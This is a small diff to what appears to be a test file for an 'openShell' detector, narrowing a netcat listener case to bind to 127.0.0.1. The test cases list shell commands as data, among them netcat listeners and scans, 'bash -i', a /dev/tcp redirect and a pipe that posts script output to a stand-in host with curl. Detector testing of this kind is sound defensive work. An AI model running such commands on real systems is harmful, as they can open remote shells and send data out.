@@ -8,7 +8,7 @@ testDetector(openShell, {
     { run: "cat a.sh | sh | curl -d @- https://example.test > out.txt", files: { "a.sh": "ls" } },
     "nc -zv host.example.test 22",
     "nc -z localhost 80",
-    "nc -l 4444",
+    "nc -l 127.0.0.1 4444",
     "python3 -m http.server --bind 127.0.0.1",
     "bash -i",
     "echo hi > /dev/tcp/127.0.0.1/80",
